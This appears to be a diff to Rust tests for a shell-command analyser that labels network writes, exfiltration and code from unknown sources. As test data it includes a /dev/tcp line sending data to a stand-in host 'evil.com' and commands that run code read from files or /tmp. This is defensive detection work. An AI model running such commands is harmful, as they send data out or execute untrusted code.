@@ -158,7 +158,10 @@ fn a_command_is_read_into_its_atoms() {
             "while read f; do rm \"$f\"; done < list",
             "rm ? | w:anywhere | >r:/r/list",
         ),
-        ("echo hi > /dev/tcp/evil.com/80", ">host:evil.com"),
+        (
+            "echo hi > /dev/tcp/evil.com/80",
+            ">host:evil.com !Exfiltration",
+        ),
         (
             "i=0; while [ $i -lt 3 ]; do i=$((i+1)); echo $i; done",
             "use",
@@ -193,6 +196,10 @@ fn what_nobody_can_know_is_unread() {
     for text in [
         "$X a",
         "eval \"$(cat x)\"",
+        "bash -c \"$(<x)\"",
+        "$(<x) a",
+        "$(<x <<<ls) rm a",
+        "X=$(<x); $X a",
         "sh -c \"$X\"",
         "cat x y | sh",
         "((x))",
@@ -376,4 +383,44 @@ fn what_must_hold_of_a_reading_holds_of_pieces_put_together() {
         }
         super::fuzz::walk(text.as_bytes());
     }
+}
+
+#[test]
+fn code_that_stands_elsewhere_is_not_the_repositorys() {
+    for (text, expected) in [
+        ("make", "make | code:repo"),
+        ("make -C sub", "@/r/sub make -C sub | code:repo"),
+        ("make -C /tmp/x", "@/tmp/x make -C /tmp/x | code:unknown"),
+        ("cd ../x && cargo test", "@/x cargo test | code:unknown"),
+        ("cd sub && cargo test", "@/r/sub cargo test | code:repo"),
+        (
+            "npm --prefix ../x run b",
+            "@/r/../x npm --prefix ../x run b | code:unknown",
+        ),
+        (
+            "make -f /tmp/x.mk",
+            "make -f /tmp/x.mk | code:unknown | r:/tmp/x.mk | code:repo",
+        ),
+        (
+            "mkdir -p /tmp/x && cd /tmp/x && make",
+            "mkdir -p /tmp/x | w:/tmp/x | @/tmp/x make | code:unknown",
+        ),
+        (
+            "echo 'a:' > /tmp/x/Makefile && make -C /tmp/x",
+            ">w:/tmp/x/Makefile | @/tmp/x make -C /tmp/x | code:inline",
+        ),
+    ] {
+        assert_eq!(read(text), expected, "{text}");
+    }
+    // Neither does an allow of the program's cover it.
+    let reading = command("make -C /tmp/x; make -f /tmp/x.mk", &at(), &NoDisk);
+    let sources: Vec<Source> = reading
+        .atoms
+        .iter()
+        .filter(
+            |atom| matches!(&atom.kind, AtomKind::Code(code) if code.class == CodeClass::Unknown),
+        )
+        .map(|atom| atom.source)
+        .collect();
+    assert_eq!(sources, [Source::Environment, Source::Option(2)]);
 }
